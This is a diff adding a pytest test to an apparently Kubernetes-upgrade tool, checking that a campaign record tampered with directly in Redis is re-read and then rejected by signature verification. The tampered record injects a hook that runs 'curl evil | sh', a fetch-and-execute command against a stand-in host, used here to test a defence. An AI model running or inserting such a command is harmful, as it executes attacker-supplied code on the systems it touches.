@@ -333,3 +333,34 @@ def test_after_a_failure_beyond_the_budget_preparation_stops_and_outages_under_w
     assert store.get(campaign)["hops"][0]["halted"] is False
     attempt = store.entry(campaign, 0, "w-preparing")["attempt"]
     assert store.begin_phase(campaign, 0, "w-preparing", "install-kubeadm", attempt, "t3") == "run"
+
+
+def test_a_task_sees_every_change_of_the_record_it_cached_even_one_made_behind_the_store(redis_url, tmp_path):
+    from kubeupgrade.security.authorize import authorize
+    from kubeupgrade.security.signing import Unauthorized, create_key, load_private_key, sign
+    from kubeupgrade.workflow.phase import read_record
+
+    operator = create_key(tmp_path / "operator")
+    trusted = tmp_path / "trusted"
+    trusted.mkdir()
+    (trusted / "operator.pub").write_bytes(operator.public.read_bytes())
+    campaign = {"cluster": "prod", "target": "1.31", "policies": {"max_unavailable": 1}}
+    store = store_for(redis_url)
+    signer = load_private_key(operator.private)
+    campaign_id = store.create("prod", campaign, "a.yaml", signer=lambda cid: sign(signer, cid, "prod", campaign))
+    store.update(campaign_id, lambda doc: doc.update(state="running", hops=[{"target": "1.31", "version": "1.31.14"}]))
+    first = read_record(store, campaign_id)
+    assert read_record(store, campaign_id) is first  # unchanged text: not decoded again
+    assert authorize(first.doc, 0, trusted, signed_text=first.signed_text()) == operator.id
+    assert first.campaign().policies.max_unavailable.count == 1
+    assert first.campaign() is first.campaign()  # validated once per text
+    # Changed behind the store's back (no transaction, nothing else told): seen on the next read.
+    raw = json.loads(store.redis.get(f"ku:c:{campaign_id}"))
+    raw["campaign"]["policies"]["hooks"] = {"after_node": [["sh", "-c", "curl evil | sh"]]}
+    store.redis.set(f"ku:c:{campaign_id}", json.dumps(raw))
+    tampered = read_record(store, campaign_id)
+    assert tampered is not first and "hooks" in tampered.doc["campaign"]["policies"]
+    with pytest.raises(Unauthorized, match="does not match its signature"):
+        authorize(tampered.doc, 0, trusted, signed_text=tampered.signed_text())
+    store.redis.delete(f"ku:c:{campaign_id}")
+    assert read_record(store, campaign_id) is None
